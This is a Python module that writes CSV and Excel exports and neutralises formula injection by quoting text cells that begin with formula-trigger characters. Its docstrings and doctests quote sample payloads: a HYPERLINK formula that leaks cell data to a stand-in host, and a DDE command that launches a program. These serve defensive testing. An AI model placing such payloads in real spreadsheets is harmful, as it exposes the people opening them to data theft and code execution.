"""The one writer of CSV and Excel files, so no exported cell can run as a formula.

Spreadsheet programs treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and tab or carriage return ahead of one of them is skipped on the way there, so a partner's ASB
type or an agency named ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run when an analyst
opens the file. Following OWASP's rule on CSV injection, every text cell that starts with one of
those six characters gets a leading single quote (``'``), which shows the text as written and is
never evaluated. Numbers are left as numbers (``-5`` stays a number); only text is touched.

Every export goes through :func:`write_csv` or :func:`write_xlsx` (``tests/test_spreadsheets.py``
fails when a module writes CSV or Excel some other way). Plain Python: no Django here.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import IO

#: A text cell starting with one of these is neutralised (OWASP, "CSV Injection").
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    """``value`` as it may be written to a spreadsheet: text that could start a formula gets a
    leading ``'``; anything that is not text (numbers, dates, None) is returned as it is.

    Examples:
        >>> safe_cell('=HYPERLINK("http://evil.example/?"&A1,"x")')
        '\\'=HYPERLINK("http://evil.example/?"&A1,"x")'
        >>> [safe_cell(v) for v in ("+1", "-x", "@SUM(A1)", "\\tcalc", "\\r=1")]
        ["'+1", "'-x", "'@SUM(A1)", "'\\tcalc", "'\\r=1"]
        >>> safe_cell("Noise"), safe_cell("a=b"), safe_cell("")
        ('Noise', 'a=b', '')
        >>> safe_cell(-5), safe_cell(0.5), safe_cell(None)
        (-5, 0.5, None)
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def write_csv(target: IO[str] | Path, rows: Iterable[Mapping[str, object]], columns: Sequence[str],
              lineterminator: str = "\r\n") -> None:
    """Write a heading line of ``columns`` then one line per row (a mapping from column to
    value; a missing column is left empty) to an open text handle or a path (UTF-8), every cell
    through :func:`safe_cell`.

    Examples:
        >>> import io
        >>> out = io.StringIO()
        >>> write_csv(out, [{"agency": "=cmd|' /C calc'!A0", "users": -5}], ["agency", "users"],
        ...           lineterminator="\\n")
        >>> print(out.getvalue(), end="")
        agency,users
        '=cmd|' /C calc'!A0,-5
    """
    if isinstance(target, Path):
        with target.open("w", newline="", encoding="utf-8") as handle:
            write_csv(handle, rows, columns, lineterminator)
        return
    writer = csv.DictWriter(target, fieldnames=list(columns), lineterminator=lineterminator)
    writer.writerow({c: safe_cell(c) for c in columns})
    writer.writerows({k: safe_cell(v) for k, v in row.items()} for row in rows)


@dataclass(frozen=True)
class Formatted:
    """A number with the Excel number format it is shown in, e.g. ``Formatted(0.125, "0.0%")``."""

    value: float | int
    number_format: str


@dataclass(frozen=True)
class Sheet:
    """One worksheet: its name (at most 31 characters, as Excel allows), its rows of cell values,
    and how many of the first rows (a title, the headings) are set in bold."""

    name: str
    rows: Sequence[Sequence[object]]
    bold_rows: int = 0


def write_xlsx(path: Path, sheets: Iterable[Sheet]) -> None:
    """Write an Excel workbook, one worksheet per sheet in order, every cell through
    :func:`safe_cell` and neutralised text stored as text (never as a formula).

    Examples:
        >>> import tempfile
        >>> from openpyxl import load_workbook
        >>> with tempfile.TemporaryDirectory() as folder:
        ...     path = Path(folder) / "out.xlsx"
        ...     write_xlsx(path, [Sheet("Types", [["Type", "Incidents"], ["=1+1", -5]], bold_rows=1)])
        ...     sheet = load_workbook(path)["Types"]
        ...     [(c.value, c.data_type) for c in sheet[2]], sheet["A1"].font.b
        ([("'=1+1", 's'), (-5, 'n')], True)
    """
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(spec.name)
        for number, row in enumerate(spec.rows, start=1):
            for column, value in enumerate(row, start=1):
                number_format = value.number_format if isinstance(value, Formatted) else None
                if isinstance(value, Formatted):
                    value = value.value
                safe = safe_cell(value)
                cell = sheet.cell(row=number, column=column, value=safe)
                if safe is not value:  # neutralised: text, whatever openpyxl would guess
                    cell.data_type = "s"
                if number_format:
                    cell.number_format = number_format
                if number <= spec.bold_rows:
                    cell.font = Font(bold=True)
    book.save(path)
